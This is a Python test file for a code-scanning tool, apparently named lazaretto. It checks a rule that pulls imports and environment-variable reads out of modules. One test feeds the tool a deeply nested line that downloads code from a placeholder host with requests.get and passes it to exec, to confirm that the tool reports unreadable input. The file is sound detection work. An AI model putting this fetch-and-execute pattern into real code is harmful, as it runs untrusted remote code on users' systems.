"""Imports and variables as signals."""

from lazaretto.detect.engine import Engine
from lazaretto.detect.rules.python.module_links import RULE
from lazaretto.parse.blob import Blob
from lazaretto.parse.python import PythonModule


def links(run, text, path="package/module.py"):
    return [(signal.kind, signal.value) for signal in run(RULE, text, path).signals]


def test_modules_and_variables(run):
    text = (
        "import os, helper.part as h\nfrom . import near\nfrom .far import thing\n"
        'os.environ["A"]; os.getenv("B"); os.environ.get("C", 1)\n'
    )
    assert links(run, text) == [
        ("import", "py\thelper.part"),
        ("import", "py\t.near"),
        ("import", "py\t.far"),
        ("import", "py\t.far.thing"),
        ("env-read", "A"),
        ("env-read", "B"),
        ("env-read", "C"),
    ]


def test_the_standard_library_is_left_out(run):
    assert links(run, "import os, sys\nfrom json import loads\n") == []


def test_no_more_than_a_bound(run):
    text = "".join(f"import m{n}\n" for n in range(1000))
    assert len(links(run, text)) == 300


def test_what_could_not_be_read_to_its_end_is_a_gap():
    from lazaretto.detect.rules.python.remote_code_executed import RULE as OTHER

    text = "import requests\nexec(" + "f(" * 95 + "requests.get('https://x.example.test').text" + ")" * 95 + ")\n"
    result = Engine([OTHER, RULE], [PythonModule]).examine(Blob("a.py", text.encode()))
    assert [gap.reason.english() for gap in result.gaps] == [
        "py/module-links could not read it: too big, deep or repetitive to be read to its end"
    ]


def test_imports_over_several_lines_and_by_name(run):
    text = 'from .far import (\n    one,\n    two as t,\n)\n__import__("helper.late")\nimportlib.import_module("os")\n'
    assert links(run, text) == [
        ("import", "py\t.far"),
        ("import", "py\t.far.one"),
        ("import", "py\t.far.two"),
        ("import", "py\thelper.late"),
    ]
